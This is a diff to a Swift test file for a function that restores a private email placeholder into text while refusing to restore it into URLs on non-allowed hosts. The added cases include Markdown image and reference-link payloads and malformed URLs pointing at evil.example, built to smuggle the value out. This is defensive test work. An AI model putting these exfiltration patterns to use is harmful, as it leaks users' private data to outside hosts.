@@ -26,6 +26,10 @@ import ZavesaTesting
             "[a](javascript:x('[{E}]'))", "data://x/[{E}]", "https://evil.example/{E}", "<a href=\"x/{E}\">",
             "[a](mailto:x@evil.example?body=[{E}])",
             "<img srcset=\"https://ok.example/a 1x, //evil.example/[{E}] 2x\">",
+            "![x][r]\n\n[r]: https:/evil.example/?q=[{E}]", "[r]: /\\evil.example/[{E}]",
+            "[r]:\n\\\\evil.example/[{E}]",
+            "[r]: <https:evil.example/a b/[{E}]>", "[r]: https:evil.example/]?q=[{E}]", "<https:evil.example/[{E}]>",
+            "HTTP:evil.example/[{E}]", "www.evil.example/https://ok.example/[{E}]", "https:x//ok.example/[{E}]",
         ])
     func urlsAreKept(template: String) {
         let restored = sample.restore(template, rules: RestoreRules(urlHosts: ["ok.example"]))
@@ -49,6 +53,9 @@ import ZavesaTesting
             ("a < b [{E}] src=[{E}]", "a < b ivan@example.org src=ivan@example.org"),
             ("[write](mailto:[{E}])", "[write](mailto:ivan@example.org)"),
             ("<a href=\"mailto:[{E}]\">", "<a href=\"mailto:ivan@example.org\">"),
+            ("[Name]: [{E}], [a]: x [{E}]", "[Name]: ivan@example.org, [a]: x ivan@example.org"),
+            ("[a]: b](x) [{E}]", "[a]: b](x) ivan@example.org"), ("[12:30]: [{E}]:", "[12:30]: ivan@example.org:"),
+            ("http: [{E}]", "http: ivan@example.org"),
             ("C:\\\\Users\\\\[{E}]", "C:\\\\Users\\\\ivan@example.org"),
         ])
     func restoredBesideURLs(template: String, expected: String) {
@@ -65,6 +72,7 @@ import ZavesaTesting
         arguments: [
             "https://ok.example/?q=[{E}]", "http://OK.example:8080/[{E}]", "[a](https://ok.example/[{E}])",
             "<a href=\"https://ok.example/[{E}]\">", "https://a.b.deep.example?x=[{E}]",
+            "[r]: https://ok.example/[{E}]", "[r]: <https://ok.example/[{E}]>", "<https://ok.example/[{E}]>",
         ])
     func allowedHosts(template: String) {
         let restored = sample.restore(template, rules: RestoreRules(urlHosts: ["ok.example", "*.deep.example"]))
